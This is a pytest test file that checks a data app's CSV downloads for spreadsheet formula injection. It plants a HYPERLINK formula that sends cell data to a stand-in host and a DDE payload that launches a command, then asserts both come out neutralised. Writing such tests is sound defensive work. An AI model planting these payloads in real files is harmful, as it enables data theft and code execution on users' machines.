"""Names and licences of the data that begin like a formula are plain text in every download."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from callbacks.application import create_app
from data.answers.panels import panels
from data.settings import Settings
from data.store.version import StoreFolder
from data.viewer import Viewer
from tests.fixtures_store import build, make_batch

EVIL = '=HYPERLINK("http://example.org?x="&A1,"more")'


@pytest.fixture(scope="module")
def planted_folder(tmp_path_factory: pytest.TempPathFactory) -> StoreFolder:
    batch = replace(make_batch(7, 120), source_name=f"{EVIL} Police", licence="@SUM(1+1)*cmd|' /C calc'!A0")
    return build(tmp_path_factory.mktemp("evil"), batch)


@pytest.mark.parametrize("panel", sorted(panels()))
def test_no_download_holds_a_formula(planted_folder: StoreFolder, panel: str) -> None:
    server = create_app(planted_folder, Viewer("analyst"), Settings()).server
    with server.test_client() as client:
        text = client.get(f"/download/{panel}.csv?from=2024-10&to=2025-09").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t", "\r"))]
